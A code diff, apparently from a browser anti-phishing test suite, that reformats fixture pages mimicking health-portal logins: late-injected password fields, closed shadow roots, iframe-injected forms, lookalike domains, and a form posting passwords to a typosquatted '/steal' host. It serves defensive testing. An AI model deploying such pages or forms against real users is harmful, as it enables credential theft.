@@ -10,20 +10,43 @@ const FORM = '<form><label>User name <input name="user"></label><label>Password 
 
 /** Pages that put their form before the person in other ways than plain HTML. */
 const PAGES = {
-  "late.aetma.com": article("<h1>Welcome</h1><main></main><script>setTimeout(() => { document.querySelector('main').innerHTML = '<input type=password autofocus>'; document.querySelector('input').focus(); }, 1500)</script>"),
-  "claims-late.example": article("<h1>MyChart</h1><main></main><script>setTimeout(() => { document.title = 'MyChart'; document.querySelector('main').innerHTML = '<input type=password>'; document.querySelector('input').focus(); }, 1500)</script>", "Welcome"),
-  "shadow.example": article("<div id=host></div><script>const root = document.getElementById('host').attachShadow({ mode: 'closed' }); root.innerHTML = '<input type=password>'; setTimeout(() => root.querySelector('input').focus(), 800)</script>", "MyChart - Login Page"),
+  "late.aetma.com": article(
+    "<h1>Welcome</h1><main></main><script>setTimeout(() => { document.querySelector('main').innerHTML = '<input type=password autofocus>'; document.querySelector('input').focus(); }, 1500)</script>",
+  ),
+  "claims-late.example": article(
+    "<h1>MyChart</h1><main></main><script>setTimeout(() => { document.title = 'MyChart'; document.querySelector('main').innerHTML = '<input type=password>'; document.querySelector('input').focus(); }, 1500)</script>",
+    "Welcome",
+  ),
+  "shadow.example": article(
+    "<div id=host></div><script>const root = document.getElementById('host').attachShadow({ mode: 'closed' }); root.innerHTML = '<input type=password>'; setTimeout(() => root.querySelector('input').focus(), 800)</script>",
+    "MyChart - Login Page",
+  ),
   "masked.example": article("<input name=q1 style='-webkit-text-security: disc' autofocus>", "MyChart - Login Page"),
   "text.example": article("<label>Contraseña <input name=q1 autofocus></label>", "MyChart - Login Page"),
-  "srcdoc.example": article(`<h1>MyChart</h1><iframe width=600 height=300 srcdoc="${`<script>${RECORDER}</script>${FORM}`.replaceAll('"', "&quot;")}"></iframe>`, "MyChart - Login Page"),
-  "blank.example": article(`<h1>MyChart</h1><iframe width=600 height=300></iframe><script>const d = document.querySelector('iframe').contentDocument; const f = d.createElement('div'); f.innerHTML = ${JSON.stringify(FORM)}; d.body.append(f);</script>`, "MyChart - Login Page"),
-  "framing.example": article('<h1>Our clinic</h1><iframe width=600 height=300 src="https://mychart-login.example/in"></iframe>', "Our clinic"),
-  "framing-good.example": article('<h1>Our clinic</h1><iframe width=600 height=300 src="https://mychart.org/in"></iframe>', "Our clinic"),
+  "srcdoc.example": article(
+    `<h1>MyChart</h1><iframe width=600 height=300 srcdoc="${`<script>${RECORDER}</script>${FORM}`.replaceAll('"', "&quot;")}"></iframe>`,
+    "MyChart - Login Page",
+  ),
+  "blank.example": article(
+    `<h1>MyChart</h1><iframe width=600 height=300></iframe><script>const d = document.querySelector('iframe').contentDocument; const f = d.createElement('div'); f.innerHTML = ${JSON.stringify(FORM)}; d.body.append(f);</script>`,
+    "MyChart - Login Page",
+  ),
+  "framing.example": article(
+    '<h1>Our clinic</h1><iframe width=600 height=300 src="https://mychart-login.example/in"></iframe>',
+    "Our clinic",
+  ),
+  "framing-good.example": article(
+    '<h1>Our clinic</h1><iframe width=600 height=300 src="https://mychart.org/in"></iframe>',
+    "Our clinic",
+  ),
   "sends.example": article('<form action="https://rnychart.org/steal"><input type=password></form>', "Welcome"),
   "mychart-login.example": login(),
   "mychart.org": login(),
   "fast.example": login({ autofocus: true, title: "City Library" }),
-  "sso.example": article("<form action='https://idp.example/in' method='get'><input type=hidden name=SAMLResponse value=abc><button>Continue</button></form><script>document.forms[0].requestSubmit()</script>", "Working..."),
+  "sso.example": article(
+    "<form action='https://idp.example/in' method='get'><input type=hidden name=SAMLResponse value=abc><button>Continue</button></form><script>document.forms[0].requestSubmit()</script>",
+    "Working...",
+  ),
   "idp.example": article("<h1>Signed in</h1>"),
 };
 
@@ -40,7 +63,15 @@ for (const name of BROWSERS) {
       server.close();
     });
 
-    for (const host of ["late.aetma.com", "claims-late.example", "shadow.example", "text.example", "srcdoc.example", "blank.example", "sends.example"]) {
+    for (const host of [
+      "late.aetma.com",
+      "claims-late.example",
+      "shadow.example",
+      "text.example",
+      "srcdoc.example",
+      "blank.example",
+      "sends.example",
+    ]) {
       test(`warns before the first key: ${host}`, async () => {
         const page = await browser.open(`https://${host}/`);
         await until(async () => ["panel", "interstitial"].includes(await browser.see(page)));
